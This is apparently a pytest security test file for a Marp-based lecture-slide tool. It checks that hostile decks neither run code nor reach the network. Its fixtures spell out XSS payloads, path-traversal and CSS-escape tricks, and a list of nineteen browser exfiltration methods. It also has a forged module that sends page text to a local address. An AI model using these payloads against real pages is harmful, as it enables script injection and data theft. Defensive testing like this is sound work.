"""A hostile deck: nothing of it runs, nothing is read from outside, and it is told where."""

import base64
import hashlib
import re
import shutil
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import quote

import pytest
from deck_project import ROOT, complaints, make_project, png, write_deck

from deck import slides
from deck.jobs import inputs
from deck.pictures import build, made_here, provenance
from deck.problems import Mistake
from deck.render.marp import finish, render


@pytest.fixture(scope="module")
def project(tmp_path_factory):
    root = make_project(tmp_path_factory.mktemp("safety") / "project")
    (root / "images" / "good.png").write_bytes(png(400, 300))
    (root.parent / "secret.png").write_bytes(png(8, 8))
    (root / "images" / "link.png").symlink_to(root.parent / "secret.png")
    (root / "images" / "folder").symlink_to(root.parent, target_is_directory=True)
    (root / "images" / "script.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="top.pwned=1">'
        "<script>top.pwned = 1; document.title = 'pwned'</script></svg>"
    )
    return root


REFUSED = {
    "![x](../../secret.png)": "lies outside the project",
    "![x](/etc/hostname)": "lies outside the project",
    "![x](../images/link.png)": "lies outside the project",
    "![x](../images/folder/secret.png)": "lies outside the project",
    "![x](..%2f..%2fsecret.png)": "is missing",
    "![x](https://example.org/x.png)": "is not a file of the project",
    "![x](//example.org/x.png)": "is not a file of the project",
    "![x](%E0%A4%A.png)": "is no address",
    '<img src="../../secret.png">': "image ../../secret.png is not allowed here",
    '<img src="x" onerror="top.pwned = 1">': "image x is not allowed here",
    "<!-- _footer: '<img src=x onerror=y>' -->": "image x is not allowed here",
    "![bg](../../secret.png)": "lies outside the project",
    "![bg](https://example.org/x.png)": "is not a file of the project",
    "[x](../../secret.txt)": "leads out of the project",
    "[x](/etc/passwd)": "leads out of the project",
    "[x](//example.org)": "leads out of the project",
    "[x](ms-msdt:/id)": "is no web address and no file",
    "<style>section { background: url(https://example.org/x.png) }</style>": "a style loads https:",
    "<style>section { background: \\75rl('//example.org/x.png') }</style>": "a style loads //",
    "<style>p { content: '/*'; background: url(//a.org/x.png) }</style>": "a style loads //a.org",
    "<style>p { background: u\\72l(//a.org/x.png) }</style>": "a style loads",
    "<style>p { --a: url(//a.org/x.png) }</style>": "a style loads //a.org",
    "<style>p { --a: '//a.org'; mask: image-set(var(--a) 1x) }</style>": "a style loads var(",
    "<style>p { mask: image-set('data:,' 9x, v\\61r(--a) 1x) }</style>": "a style loads v\\61r(",
    "<style>p { mask: image-set('data:,' 9x, --own() 1x) }</style>": "a style loads --own(",
    "<style>p { background: -webkit-image-set('//a.org/x' 1x) }</style>": "a style loads //a.org",
    "<style>p { background: IMAGE-SET(url(//a.org/x) 1x) }</style>": "a style loads //a.org",
    "<style>p { background: url(file:///etc/x.png) }</style>": "a style loads file:",
    "<style>p { mask: cross-fade(url(//a.org/x), red) }</style>": "a style loads //a.org",
    "<style>@font-face { font-family: x; src: url(//a.org/x) }</style>": "a style loads //a.org",
    "<style>@import url(https://example.org/x.css);</style>": "a style loads https:",
    "<style>@import 'https://example.org/x.css';</style>": "a style loads https:",
    "<style scoped>p { background: url(../../secret.png) }</style>": "a style loads ../../secret",
    "<!-- backgroundImage: url(https://example.org/x.png) -->": "a style loads https:",
    "<!-- _backgroundImage: url(../../secret.png) -->": "a style loads ../../secret",
    "<!-- header: '![x](https://example.org/x.png)' -->": "example.org/x.png",
    "<!-- footer: '![x](../../secret.png)' -->": "secret.png",
}


@pytest.mark.long
@pytest.mark.parametrize("text", REFUSED)
def test_what_reaches_out_is_refused_with_its_line(project, warm, text):
    deck = write_deck(project, f"# One\n\nText.\n\n{text}\n")
    with pytest.raises(Mistake) as caught:
        render(deck, root=project, warm=warm)
    said = str(caught.value).splitlines()[0]
    assert said.startswith("slides/test.md:13: ")
    assert REFUSED[text] in said
    assert "at " not in str(caught.value).splitlines()[-1].split(":")[0]


@pytest.mark.parametrize(
    "address", ["[the script]({}/models/lif.py)", "![A cell]({}/images/good.png)"]
)
def test_a_path_from_the_root_of_a_disk_is_refused(project, warm, address):
    """It is there on this machine alone."""
    deck = write_deck(project, f"# One\n\nText.\n\n{address.format(quote(str(project)))}\n")
    with pytest.raises(
        Mistake, match=r"^slides/test\.md:13: .* of this machine alone; write \.\./"
    ):
        render(deck, root=project, warm=warm)


FRONT = {
    "style: '@import url(https://example.org/x.css);'": "a style loads https:",
    "backgroundImage: url(https://example.org/x.png)": "a style loads https:",
    "header: '![x](https://example.org/x.png)'": "example.org/x.png",
}


@pytest.mark.parametrize("setting", FRONT)
def test_what_reaches_out_in_the_front_matter_is_refused(project, warm, setting):
    deck = project / "slides" / "test.md"
    deck.write_text(f"---\nmarp: true\ntheme: brian2\n{setting}\n---\n\n# One\n", "utf-8")
    with pytest.raises(Mistake) as caught:
        render(deck, root=project, warm=warm)
    said = str(caught.value).splitlines()[0]
    assert said.startswith(("slides/test.md:4: ", "slides/test.md:5: "))
    assert FRONT[setting] in said


HOSTILE = """# Hostile

<script>top.pwned = 1</script>
<script src="https://example.org/x.js"></script>
<svg onload="top.pwned = 1"><script>top.pwned = 1</script></svg>
<iframe srcdoc="<script>top.pwned = 1</script>"></iframe>
<iframe src="https://example.org/"></iframe>
<object data="https://example.org/"></object>
<embed src="https://example.org/">
<link rel="stylesheet" href="https://example.org/x.css">
<meta http-equiv="refresh" content="0; url=https://example.org/">
<base href="https://example.org/">
<form action="https://example.org/"><button autofocus onfocus="top.pwned = 1">x</button></form>
<div class="a" onclick="top.pwned = 1" style="background: url(https://example.org/x.png)">x</div>
<span class="x" onmouseover="top.pwned = 1">hover</span>
<a href="javascript:top.pwned = 1">raw</a>
<details open ontoggle="top.pwned = 1">x</details>
<math><mtext><script>top.pwned = 1</script></mtext></math>
<div class='"><script>top.pwned = 1</script>'>x</div>

[script](javascript:top.pwned=1) [SCRIPT](JaVaScRiPt:top.pwned=1) [vb](vbscript:x)
[data](data:text/html,<script>top.pwned=1</script>) <javascript:top.pwned=1>
[title](https://example.org "&quot; onmouseover=top.pwned=1")
![alt" onerror="top.pwned=1](../images/good.png)
![An SVG](../images/script.svg)

$\\href{javascript:top.pwned=1}{x}$ $\\includegraphics{https://example.org/x.png}$
$\\htmlData{onload=top.pwned=1}{x}$ $\\url{javascript:top.pwned=1}$

```python models/"><img/src=x/onerror=top.pwned=1>.py
x = 1
```

```html"><script>top.pwned=1</script>
x
```

<!-- _class: 'x" onload="top.pwned = 1' -->
<!-- _header: '<script>top.pwned = 1</script> " onload="top.pwned = 1' -->
<!-- _footer: '<object data="https://example.org">' -->

<!-- A note. <script>top.pwned = 1</script> -->
"""


def requests(page) -> list[str]:
    """Return the list into which what the page asks the network for will come."""
    asked = []

    def refuse(route):
        asked.append(route.request.url)
        route.abort()

    page.route("http*://**/*", refuse)
    return asked


def test_nothing_of_a_hostile_deck_runs(project, browser):
    deck = write_deck(project, HOSTILE, "hostile")
    text = deck.read_text("utf-8")
    title = (
        """title: '"><script>top.pwned = 1</script>'\ndescription: '"><img src=x onerror=y>'\n"""
        "style: |\n  </style><script>top.pwned = 1</script>"
    )
    deck.write_text(text.replace("title: A deck for a test", title), "utf-8")
    html = render(deck, root=project)[0]
    page = browser.new_page(viewport={"width": 1280, "height": 720})
    asked = requests(page)
    page.goto(html.as_uri())
    page.wait_for_timeout(300)
    page.evaluate("""for (const element of document.querySelectorAll("section, section *"))
        for (const kind of ["mouseover", "toggle", "focus", "load", "error"])
            element.dispatchEvent(new Event(kind, { bubbles: true }))""")
    page.wait_for_timeout(200)
    assert page.evaluate("top.pwned") is None
    assert page.title() == '"><script>top.pwned = 1</script>'
    assert page.query_selector_all("section script, section iframe, section form") == []
    handlers = """[...document.querySelectorAll("body *")].flatMap((e) =>
        [...e.attributes].filter((a) => /^on/.test(a.name)).map((a) => a.name + a.value))"""
    assert page.evaluate(handlers) == []
    links = page.eval_on_selector_all("section a", "all => all.map(a => a.href)")
    assert [link for link in links if "javascript" in link.lower() or "data:" in link] == []
    assert asked == []
    page.close()


@pytest.mark.long
def test_the_page_of_the_handout_has_the_policy_too(project, monkeypatch):
    """What the browser prints can load nothing, whatever came through."""
    seen = []

    def record(page, output, kind, browser, root):
        seen.append(page.read_text("utf-8"))
        output.write_bytes(b"")

    monkeypatch.setattr("deck.render.marp._print_handout", record)
    monkeypatch.setattr("deck.render.marp.print_fonts", lambda deck, root: {})
    render(write_deck(project, "# One\n", "paper"), ("handout",), root=project)
    assert "Content-Security-Policy\" content=\"default-src 'none'" in seen[0]


def test_what_only_present_serves_is_in_no_deck():
    page = '<meta charset="UTF-8"><body></body>'
    for script in ("reload.js", "edit.js"):
        text = (ROOT / "deck" / "rehearse" / script).read_text("utf-8")
        assert text in finish(page, reload=True)
        assert text not in finish(page)
    assert "connect-src" not in finish(page)


def test_the_policy_lets_nothing_else_run(project, browser):
    html = render(write_deck(project, "# One\n", "policy"), root=project)[0]
    added = (
        '<script>top.pwned = 1</script><img src="https://example.org/x.png" onerror="top.pwned=2">'
    )
    html.write_text(html.read_text("utf-8").replace("</body>", f"{added}</body>"), "utf-8")
    page = browser.new_page()
    asked = requests(page)
    page.goto(html.as_uri())
    page.wait_for_timeout(200)
    assert page.evaluate("top.pwned") is None
    assert asked == []
    page.close()


@pytest.mark.parametrize("view", ["presenter", "next"])
def test_the_presenters_view_works_under_the_policy(rendered, browser, view):
    page = browser.new_page(viewport={"width": 1280, "height": 720})
    errors = complaints(page)
    page.goto(f"{rendered['html'].as_uri()}?view={view}#2")
    page.wait_for_timeout(500)
    if view == "presenter":
        assert page.locator(".bespoke-marp-note.active").inner_text().strip()
        frame = page.frame_locator("iframe")
        assert frame.locator(".bespoke-marp-active section").get_attribute("id") == "3"
    else:
        assert page.locator(".bespoke-marp-active section").get_attribute("id") == "2"
    assert errors == []
    page.close()


def test_the_key_p_opens_the_presenters_view(rendered, browser):
    context = browser.new_context(viewport={"width": 1280, "height": 720})
    page = context.new_page()
    errors = complaints(page)
    page.goto(rendered["html"].as_uri())
    with context.expect_page() as opened:
        page.keyboard.press("p")
    presenter = opened.value
    presenter.wait_for_load_state()
    presenter.keyboard.press("ArrowRight")
    page.wait_for_function("() => location.hash === '#2'")
    assert errors == []
    context.close()


def test_the_lecture_names_no_address_that_it_loads(rendered):
    page = rendered["html"].read_text("utf-8")
    assert "Content-Security-Policy" in page
    assert ROOT.as_posix() not in page


# Live modules ----------------------------------------------------------------------------------


@pytest.fixture
def own_state(tmp_path, monkeypatch):
    """Make this machine one that has never made a live module."""
    monkeypatch.setattr("platformdirs.user_state_path", lambda name: tmp_path / "state")
    monkeypatch.setattr(made_here, "_made", set())


@pytest.fixture
def cloned(tmp_path, own_state):
    """Return a project that has come from elsewhere: the LIF neuron, its picture, its module."""
    root = make_project(tmp_path / "cloned")
    (root / "figures").mkdir()
    for room, name in (("figures", "lif.py"), ("figures", "lecture.mplstyle")):
        shutil.copy(ROOT / room / name, root / room)
    for file in (ROOT / "images").glob("lif.*"):
        shutil.copy(file, root / "images")
    write_deck(root, "\n# One\n\n![The LIF neuron](../images/lif.png)\n", "lecture")
    return root


EVIL = "export const info = {}; location.href = 'http://127.0.0.1:9/?' + document.body.innerText;\n"


def forge(root, name: str, module: str) -> None:
    """Put a module beside a picture and sign the picture again, as its author could."""
    image = root / "images" / f"{name}.png"
    said, _ = provenance.read(image.read_bytes())
    said["live"] = inputs.digest(module.encode())
    image.write_bytes(provenance.sign(image.read_bytes(), said))
    (root / "images" / f"{name}.live.js").write_text(module, "utf-8")
    assert provenance.why_not_current(root, name) is None


def test_what_another_machine_made_is_made_anew_before_it_runs(cloned):
    before = {file.name: file.read_bytes() for file in (cloned / "images").iterdir()}
    assert build.status(root=cloned) == [("lif", "stale", build.UNPROVEN)]
    assert build.live_modules(cloned) == {}
    assert slides.make(["lecture"], root=cloned) == 0
    assert "createModel" in (cloned / "build" / "lecture.html").read_text("utf-8")
    assert build.status(root=cloned) == [("lif", "current", "")]
    # The clone is as it was: what this machine makes is what it brought.
    assert {file.name: file.read_bytes() for file in (cloned / "images").iterdir()} == before


def test_a_forged_module_with_a_forged_signature_never_gets_into_a_deck(cloned):
    forge(cloned, "lif", EVIL)
    assert slides.make(["lecture"], root=cloned) == 0
    page = (cloned / "build" / "lecture.html").read_text("utf-8")
    assert "location.href = 'http" not in page
    assert "createModel" in page
    assert (cloned / "images" / "lif.live.js").read_text("utf-8") != EVIL


def test_a_record_inside_the_project_proves_nothing(cloned):
    forge(cloned, "lif", EVIL)
    digest = hashlib.sha256(EVIL.encode()).hexdigest()
    for folder in ("build", "build/cache", "images", "live"):
        (cloned / folder).mkdir(exist_ok=True)
        (cloned / folder / digest).touch()
    assert build.live_modules(cloned) == {}


def test_a_module_without_a_figure_never_gets_into_a_deck(cloned):
    image = (cloned / "images" / "lif.png").read_bytes()
    (cloned / "images" / "other.png").write_bytes(image)
    (cloned / "images" / "other.live.js").write_text(EVIL, "utf-8")
    write_deck(cloned, "\n# One\n\n![No figure of ours](../images/other.png)\n", "lecture")
    assert slides.make(["lecture"], root=cloned) == 0
    assert "location.href = 'http" not in (cloned / "build" / "lecture.html").read_text("utf-8")


MODEL = """
from brian2 import *

@implementation('javascript', {code!r})
@implementation('numpy', discard_units=True)
@check_units(x=1, result=1)
def twice(x):
    return 2*x

G = NeuronGroup(1, 'dv/dt = (twice(v) + 1)/(10*ms) : 1', method='euler')
Vmon = StateMonitor(G, 'v', record=True)
run(10*ms)
"""
OWN_JAVASCRIPT = {
    "function twice(x) { return 2 * x; }": "",
    "function twice(x) { return Math.sign(x) * Math.abs(2 * x); }": "",
    "function twice(x) { location.href = '//a.org'; return 2 * x; }": "uses location",
    "function twice(x) { return 2 * x; } fetch('//a.org')": "uses fetch",
    "function twice(x) { self['loc' + 'ation'] = 1; return x; }": "uses self",
    "function twice(x) { return globalThis.top.y; }": "uses globalThis",
    "const twice = (x) => { import('//a.org/x.js'); return x; }": "uses import()",
    "function twice(x) { return new Image().src = '//a.org'; }": "uses Image",
    "function twice(x) { return eval('x'); }": "uses eval",
    "function twice(x { return 2 * x; }": "SyntaxError",
}


@pytest.mark.parametrize("code", OWN_JAVASCRIPT)
def test_javascript_that_a_model_brings_may_only_compute(tmp_path, code):
    """A policy can't keep a script from changing the address, so nothing that could gets in."""
    from brian2js import NotSupported, execute
    from deck.live.page import check_own_functions
    from deck.project import Project

    script = tmp_path / "own.py"
    script.write_text(MODEL.format(code=code), "utf-8")
    execution = execute(script, run=False)
    if not OWN_JAVASCRIPT[code]:
        return check_own_functions(Project(), execution)
    with pytest.raises(NotSupported, match=re.escape(OWN_JAVASCRIPT[code])):
        check_own_functions(Project(), execution)


WAYS_OUT = {
    "fetch": "fetch(to).catch(() => 0)",
    "XMLHttpRequest": "x = new XMLHttpRequest(); x.open('GET', to); x.send()",
    "WebSocket": "new WebSocket(to.replace('http', 'ws'))",
    "EventSource": "new EventSource(to)",
    "beacon": "navigator.sendBeacon(to, 'notes')",
    "image": "new Image().src = to",
    "style": "document.body.style.background = `url(${to})`",
    "font": "new FontFace('x', `url(${to})`).load().catch(() => 0)",
    "script": "document.body.append(Object.assign(document.createElement('script'), {src: to}))",
    "import": "import(to).catch(() => 0)",
    "worker": "new Worker(to)",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: to}))",
    "object": "document.body.append(Object.assign(document.createElement('object'), {data: to}))",
    "prefetch": "document.head.append(Object.assign(document.createElement('link'), "
    "{rel: 'prefetch', href: to}))",
    "stylesheet": "document.head.append(Object.assign(document.createElement('link'), "
    "{rel: 'stylesheet', href: to}))",
    "media": "document.body.append(Object.assign(document.createElement('video'), {src: to}))",
    "form": "f = Object.assign(document.createElement('form'), {action: to}); "
    "document.body.append(f); f.submit()",
    "eval": "eval('fetch(to)')",
    "Function": "Function('fetch(to)')()",
}


@pytest.fixture(scope="module")
def heard(project, browser, listening):
    """Return what a server heard of pages in which a script tries each way out."""
    address, heard = listening
    (html,) = render(write_deck(project, "# One\n", "policy"), root=project)
    plain = html.read_text("utf-8")
    pages = []
    for way, code in WAYS_OUT.items():
        script = f"var to = {address + way!r}, f, x; try {{ {code} }} catch {{}}"
        whole = plain.replace("</body>", f"<script>{script}</script></body>")
        digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
        html.write_text(whole.replace("script-src ", f"script-src 'sha256-{digest}' "), "utf-8")
        pages.append(browser.new_page())
        pages[-1].goto(html.as_uri(), wait_until="commit")
        # It runs. (A function: the policy forbids an expression, which each look evaluates anew.)
        pages[-1].wait_for_function("() => typeof to == 'string'")
    pages[-1].wait_for_timeout(500)
    for page in pages:
        page.close()
    return heard


@pytest.mark.parametrize("way", WAYS_OUT)
def test_the_policy_lets_nothing_out(heard, way):
    """Even a script that runs in the page reaches nothing by any way that a policy rules."""
    assert [one for one in heard if re.search(rf"/{way}\W".encode(), one)] == []


def test_what_goes_out_is_heard(browser, listening):
    """Without a policy."""
    address, heard = listening
    page = browser.new_page()
    page.set_content(f"<img src='{address}anything'>")
    page.wait_for_timeout(300)
    page.close()
    assert any(b"/anything " in one for one in heard)


@pytest.fixture(scope="module")
def listening():
    """Return the address of a server on this machine, and the list of what it is asked for."""
    heard = []

    class Handler(BaseHTTPRequestHandler):
        def handle_one_request(self):
            # Chrome may open a connection ahead of what it then refuses: nothing is said there.
            if asked := self.rfile.readline():
                heard.append(asked)
            self.close_connection = True

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/", heard
    server.shutdown()
